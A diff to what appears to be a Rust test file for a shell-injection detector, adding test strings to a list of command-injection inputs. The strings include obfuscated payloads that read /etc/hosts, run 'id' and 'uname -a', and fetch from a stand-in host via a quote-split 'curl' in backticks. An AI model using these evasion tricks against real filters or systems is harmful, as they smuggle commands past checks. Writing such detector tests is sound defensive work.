@@ -80,6 +80,8 @@ fn words_read_as_the_shell_reads_them() {
             ";$SHELL -c id",
             ";/???/c?t /etc/hosts",
             ";c\\\nat /etc/hosts",
+            "`cu\\r''l http://203.0.113.9/`",
+            ";u\\n\"\"ame -a",
         ],
         &[
             "I'd; he'd; they'd",
